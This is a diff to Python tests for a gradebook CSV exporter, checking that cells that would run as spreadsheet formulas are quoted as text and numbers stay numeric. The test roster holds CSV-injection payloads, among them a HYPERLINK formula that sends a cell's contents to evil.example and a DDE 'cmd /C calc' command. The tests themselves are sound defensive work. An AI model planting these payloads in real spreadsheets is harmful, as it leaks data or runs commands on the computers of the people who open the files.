@@ -83,19 +83,21 @@ def test_gradebook_cells_that_would_run_as_formulas_are_text_and_numbers_stay_nu
                " =1+1", "=1+2\";=1+2"]
     graded = [grade(plan(), InProcessRunner(), {}, name) for name in hostile]
     graded.append(Graded("-1+2", -1.5, 100.0, [], {m: (-0.25, w) for m, (_, w) in graded[0].steps.items()}))
-    roster = {"-1+2": ("@SUM(1+1)", '=HYPERLINK("http://evil.example/?c="&A1,"Alice")')}
-    text = report_csv.text(graded, plan().steps, roster)
-    rows = list(csv.reader(io.StringIO(text)))[1:]
-    numbers = slice(3, 3 + len(plan().steps) + 2)  # student, name, submission, the steps, score, max_score, …
-    assert len(rows) == len(graded)
-    for row in rows:
-        for cell in row[:numbers.start] + row[numbers.stop:]:
-            assert not cell.lstrip(" ").startswith(FORMULA_START), (cell, row)
-    assert [r[0] for r in rows[:5]] == ["'" + name for name in hostile[:5]]
-    assert rows[-1][:3] == ["'@SUM(1+1)", "'" + roster["-1+2"][1], "'-1+2"]
-    assert rows[-1][numbers] == ["-0.25"] * len(plan().steps) + ["-1.5", "100"]
-    assert ",-0.25," in text and ",-1.5,100," in text  # bare numbers: a spreadsheet computes with them
-    assert '"\'=1+2"";=1+2"' in text  # OWASP's example: quoted, its quote doubled, so `;` starts no cell
+    roster = students.Roster([students.RosterRow("@SUM(1+1)", '=HYPERLINK("http://evil.example/?c="&A1,"Alice")',
+                                                 "=cmd|' /C calc'!A0", "-1+2", line=2)])
+    for given, numbers in ((None, slice(4, 4 + len(plan().steps) + 2)), (roster, slice(7, 7 + len(plan().steps) + 2))):
+        text = report_csv.text(graded, plan().steps, given)  # student, …, submission, found_in, the steps, score, …
+        rows = list(csv.reader(io.StringIO(text)))[1:]
+        assert len(rows) == len(graded)
+        for row in rows:
+            for cell in row[:numbers.start] + row[numbers.stop:]:
+                assert not cell.lstrip(" ").startswith(FORMULA_START), (cell, row)
+        assert ",-0.25," in text and ",-1.5,100," in text  # bare numbers: a spreadsheet computes with them
+        assert '"\'=1+2"";=1+2"' in text  # OWASP's example: quoted, its quote doubled, so `;` starts no cell
+    assert [r[0] for r in rows[:1]] == ["'@SUM(1+1)"]  # the roster's row first
+    assert rows[0][:3] == ["'@SUM(1+1)", "'" + roster.rows[0].name, "'" + roster.rows[0].email]
+    assert rows[0][numbers] == ["-0.25"] * len(plan().steps) + ["-1.5", "100"]
+    assert [r[5] for r in rows[1:6]] == ["'" + name for name in hostile[:5]]  # unrostered: their submission cell
 
 
 # ------------------------------------------------------------------ point 3: Markdown feedback
@@ -165,13 +167,17 @@ def test_a_hostile_class_grades_to_completion_one_row_and_one_feedback_file_each
     assert status == 0, err
 
     rows = list(csv.DictReader((out / "grades.csv").open(encoding="utf-8", newline="")))
-    assert [r["submission"].lstrip("'") for r in rows] == [printable(path, keep="") for path, _, _ in members]
-    assert [float(r["score"]) == 100 for r in rows] == [sid != "_bob" for _, sid, _ in members]
+    on_roster = [m for m in members if m[1] in {r["student_id"] for r in ROSTER}]  # the roster's rows come first
+    in_order = on_roster + [m for m in members if m not in on_roster]
+    assert [r["submission"].lstrip("'") for r in rows] == [printable(path, keep="") for path, _, _ in in_order]
+    assert [float(r["score"]) == 100 for r in rows] == [sid != "_bob" for _, sid, _ in in_order]
     for row in rows:
-        for cell in (row["student"], row["name"], row["submission"], row["diagnoses"], row["isolation"]):
+        for cell in (row["student"], row["name"], row["email"], row["submission"], row["diagnoses"], row["isolation"]):
             assert not cell.startswith(FORMULA_START), row
-    assert [r["student"] for r in rows[:4]] == ["'=2+5", "'+2+5", "'-2+5", "'@SUM(2+5)"]
-    assert (rows[9]["student"], rows[9]["name"]) == ("'@SUM(1+1)", "'" + ROSTER[0]["name"])
+    assert [(r["student"], r["roster"]) for r in rows[2:6]] == [("", "unrostered")] * 4  # no id to import wrongly
+    assert [r["submission"].rsplit("/", 1)[-1] for r in rows[2:6]] == ["=2+5", "+2+5", "-2+5", "@SUM(2+5)"]
+    assert (rows[0]["student"], rows[0]["name"], rows[0]["email"]) == (
+        "'@SUM(1+1)", "'" + ROSTER[0]["name"], "'" + ROSTER[0]["email"])
 
     feedback_files = _files(out / "fb")
     assert sorted(Path(n).suffix for n in feedback_files) == [".html"] * len(members) + [".md"] * len(members)
